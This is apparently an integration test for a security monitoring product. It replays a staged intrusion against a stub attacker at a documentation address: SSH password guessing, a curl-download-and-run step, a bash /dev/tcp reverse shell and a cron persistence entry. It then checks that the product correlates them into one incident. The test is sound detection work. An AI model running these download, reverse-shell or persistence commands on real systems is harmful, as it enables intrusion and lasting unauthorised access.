/** One real attack in several acts through the real agent: guessing, logon, download, shell, scheduled task. It is one incident. */
import assert from 'node:assert/strict'
import { once } from 'node:events'
import { rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import type { AlertDetail, Graph, IncidentDetail, ProcessTree } from '@rampart/api'
import { until } from '../until.ts'
import { startSshServer } from './parts/acts.ts'
import { type Client, signInApi } from './parts/api.ts'
import { freePort, type Installation, removeState, startInstallation } from './parts/installation.ts'

const skip = process.getuid?.() === 0 ? false : 'needs root: kernel sensors, mount and network namespaces'
const attacker = '192.0.2.7'

let installation: Installation
let client: Client

before(async () => {
  if (skip) return
  installation = await startInstallation()
  client = await signInApi(installation.console, installation.password)
})
after(async () => {
  await installation?.stop()
  if (installation) removeState(installation.state)
})

/** Serves a script and takes the shell that connects back, which it ends at once. */
const attackerServers = `
require('node:http').createServer((_q, a) => a.end('#!/bin/sh\\nexit 0\\n')).listen(8000, '${attacker}', () =>
  require('node:net').createServer((s) => { s.on('error', () => {}); s.resume(); setTimeout(() => s.end('exit\\n'), 300) })
    .listen(4444, '${attacker}', () => console.log('ready')))`

/** What an alert of each act has in its title. */
const acts = ['password guessing from', 'password guessing succeeded', 'everse shell', 'cron']

async function actsSeen(): Promise<Map<string, AlertDetail>> {
  const seen = new Map<string, AlertDetail>()
  for (const row of await client.alerts()) {
    const text = `${row.title} ${row.entity.value}`
    const act = acts.find((one) => text.includes(one))
    if (act) seen.set(act, await client.detail(row.id))
  }
  return seen
}

test('guessing, logon, download, reverse shell and a scheduled task become one incident', {
  skip,
  timeout: 180_000,
}, async () => {
  const left = join(tmpdir(), `.update-${process.pid}`)
  const sshd = await startSshServer(installation.logs.auth, await freePort(), {
    server: '192.0.2.10',
    client: attacker,
  })
  const servers = sshd.run(process.execPath, ['-e', attackerServers])
  try {
    if (servers.stdout) await once(servers.stdout, 'data')
    await Promise.all(Array.from({ length: 10 }, (_, index) => sshd.logon(`wrong-${index}`)))
    const script = [
      `curl -s -o ${left} http://${attacker}:8000/update.sh`,
      `chmod +x ${left}`,
      left,
      `bash -c 'bash -i >& /dev/tcp/${attacker}/4444 0>&1'`,
      `echo '* * * * * root ${left}' > /etc/cron.d/system-update`,
    ].join('; ')
    assert.equal(await sshd.logon(sshd.password, script), 0)
    let seen = await actsSeen()
    for (let tries = 0; tries < 60 && seen.size < acts.length; tries++) {
      await new Promise((resolve) => setTimeout(resolve, 500))
      seen = await actsSeen()
    }
    const titles = (await client.alerts()).map((row) => `${row.title} [${row.entity.value}]`)
    assert.deepEqual([...seen.keys()].sort(), [...acts].sort(), titles.join('\n'))

    const ids = new Set([...seen.values()].map((alert) => alert.incident?.id))
    assert.equal(ids.size, 1, JSON.stringify([...seen].map(([act, alert]) => [act, alert.incident])))
    const [id] = ids
    const incident = await client.get<IncidentDetail>(`/api/v1/incidents/${id}`)
    for (const stage of ['Attack Portal', 'Remote Control', 'Permission Maintenance'] as const)
      assert.ok(incident.stages.includes(stage), incident.stages.join(', '))
    assert.equal(incident.level, 'Urgent')
    assert.match(incident.title, /from 192\.0\.2\.7 on /)
    const source = incident.entities.find(({ value }) => value === attacker)
    assert.deepEqual(source?.block, { reason: null, inForce: false }, 'it can be blocked from here')

    // The alerts are there before the last of the events that the graph is drawn from.
    const wanted: [RegExp, string, RegExp][] = [
      [/^address:192\.0\.2\.7$/, 'logged on as', /^logon:.*sshd\/session/],
      [/^logon:.*session/, 'started', /^process:/],
      [/^process:/, 'connected to', /^address:192\.0\.2\.7$/],
      [/^process:/, 'wrote', /^file:.*cron\.d\/system-update$/],
    ]
    await until('the logon, its process, its connection and its file in the graph', async () => {
      const { edges } = await client.get<Graph>(`/api/v1/incidents/${id}/graph?limit=300`)
      return wanted.every(([from, kind, to]) =>
        edges.some((edge) => edge.kind === kind && from.test(edge.from) && to.test(edge.to)),
      )
    })

    const shell = seen.get('everse shell')
    const tree = await client.get<ProcessTree>(`/api/v1/alerts/${shell?.id}/process-tree`)
    assert.ok(tree.nodes.some(({ marked, name }) => marked && name === 'bash'))
    assert.ok(
      tree.nodes.some(({ name }) => name?.startsWith('sshd')),
      'the tree goes up to the logon',
    )
  } finally {
    servers.kill()
    await sshd.stop()
    rmSync(left, { force: true })
  }
})
